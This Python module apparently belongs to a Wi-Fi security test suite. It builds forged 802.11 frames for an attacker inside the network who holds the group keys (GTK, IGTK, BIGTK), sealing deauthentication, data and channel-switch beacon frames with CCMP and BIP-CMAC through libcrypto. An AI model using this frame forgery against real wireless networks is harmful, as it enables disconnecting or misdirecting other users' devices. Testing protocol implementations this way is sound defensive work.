"""An attacker who is a member of the network: frames under the group's keys, by libcrypto.

[802.11-2020 12.5.3 (CCMP-128), 12.5.4 (BIP-CMAC-128)]
"""

import ctypes
import struct

from attacker import (ALL, CHANNEL_SWITCH, DEAUTHENTICATION, FAR, PRIOR_REASON, PROTECTED,
                      QOS_DATA, mme, msdu)

CRYPTO = ctypes.CDLL('libcrypto.so.3')
for name in ('EVP_CIPHER_CTX_new', 'EVP_aes_128_ccm', 'EVP_Q_mac'):
    getattr(CRYPTO, name).restype = ctypes.c_void_p
SET_IV_LENGTH, GET_TAG, SET_TAG = 0x9, 0x10, 0x11
GTK = 1  # hostapd's first
MIC = 8  # octets, of CCMP-128 and BIP-CMAC-128


def cmac(key, octets):
    out, size = ctypes.create_string_buffer(16), ctypes.c_size_t()
    made = CRYPTO.EVP_Q_mac(None, b'CMAC', None, b'AES-128-CBC', None, key,
                            ctypes.c_size_t(len(key)), octets, ctypes.c_size_t(len(octets)), out,
                            ctypes.c_size_t(16), ctypes.byref(size))
    assert made
    return out.raw[:MIC]


def ccm(key, nonce, aad, octets):
    context = ctypes.c_void_p(CRYPTO.EVP_CIPHER_CTX_new())
    out, tag, size = ctypes.create_string_buffer(len(octets)), bytes(MIC), ctypes.c_int()
    steps = (
        CRYPTO.EVP_EncryptInit_ex(context, ctypes.c_void_p(CRYPTO.EVP_aes_128_ccm()), None, None,
                                  None),
        CRYPTO.EVP_CIPHER_CTX_ctrl(context, SET_IV_LENGTH, len(nonce), None),
        CRYPTO.EVP_CIPHER_CTX_ctrl(context, SET_TAG, MIC, None),
        CRYPTO.EVP_EncryptInit_ex(context, None, None, key, nonce),
        CRYPTO.EVP_EncryptUpdate(context, None, ctypes.byref(size), None, len(octets)),
        CRYPTO.EVP_EncryptUpdate(context, None, ctypes.byref(size), aad, len(aad)),
        CRYPTO.EVP_EncryptUpdate(context, out, ctypes.byref(size), octets, len(octets)),
        CRYPTO.EVP_CIPHER_CTX_ctrl(context, GET_TAG, MIC, tag))
    assert all(step == 1 for step in steps)
    CRYPTO.EVP_CIPHER_CTX_free(context)
    return out.raw + tag


def seal(key, key_id, frame):
    """A frame of three addresses under CCMP, with a packet number beyond those in use."""
    is_data = frame[0] & 0x0c == 0x08
    header, body = (frame[:26], frame[26:]) if frame[0] == QOS_DATA else (frame[:24], frame[24:])
    control = struct.unpack('<H', frame[:2])[0] | PROTECTED << 8
    masked = control & (0xc78f if is_data else 0xc7ff)
    fragment = struct.unpack('<H', frame[22:24])[0] & 15
    priority = header[24:25] if is_data else b''
    aad = struct.pack('<H', masked) + frame[4:22] + struct.pack('<H', fragment)
    aad += struct.pack('<H', priority[0] & 15) if is_data else b''
    number = FAR.to_bytes(6, 'big')
    nonce = (bytes([priority[0] & 15]) if is_data else b'\x10') + frame[10:16] + number
    security = bytes([number[5], number[4], 0, 0x20 | key_id << 6]) + number[3::-1]
    return struct.pack('<H', control) + header[2:] + security + ccm(key, nonce, aad, body)


def with_mic(key, key_id, frame):
    """A management frame behind which an MME stands."""
    element = mme(key_id, FAR, bytes(MIC))
    body = frame[24:] + element
    if frame[0] == 0x80:
        body = bytes(8) + body[8:]  # the timestamp
    control = struct.pack('<H', struct.unpack('<H', frame[:2])[0] & 0xc7ff)
    return frame + element[:-MIC] + cmac(key, control + frame[4:22] + body)


def goodbye(scene, to):
    return scene.management(DEAUTHENTICATION, PRIOR_REASON, to=to)


def data_to_one(scene):
    return scene.data(msdu(), to_ap=False)


def beacon_under(index, key_id):
    """A beacon that moves the channel, under key `index` of the group, with that key id."""
    return lambda s: [with_mic(s.keys[index], key_id, s.beacon()[0] + CHANNEL_SWITCH)]


# As attacker.ATTACKS; scene.keys are the group's keys by index.
ATTACKS = {
    'insider: deauthentication of one, under the GTK': ('station', lambda s: [
        seal(s.keys[GTK], GTK, goodbye(s, s.station))]),
    'insider: deauthentication of all, encrypted under the GTK': ('station', lambda s: [
        seal(s.keys[GTK], GTK, goodbye(s, ALL))]),
    'insider: data to one, under the GTK': ('station', lambda s: [
        seal(s.keys[GTK], GTK, data_to_one(s))]),
    'insider: beacon under the IGTK, key id 6': ('station', beacon_under(4, 6)),
    'insider: beacon under the IGTK, key id 4': ('station', beacon_under(4, 4)),
    'insider: beacon under the GTK, key id 6': ('station', lambda s: [
        with_mic(s.keys[GTK], 6, s.beacon()[0] + CHANNEL_SWITCH)]),
    'insider: deauthentication of all, under the BIGTK': ('station', lambda s: [
        with_mic(s.keys[6], 6, goodbye(s, ALL))]),
    # What nothing prevents: whoever has the key can.
    'insider: deauthentication of all, under the IGTK': ('station', lambda s: [
        with_mic(s.keys[4], 4, goodbye(s, ALL))]),
    'insider: beacon under the BIGTK': ('station', beacon_under(6, 6)),
}
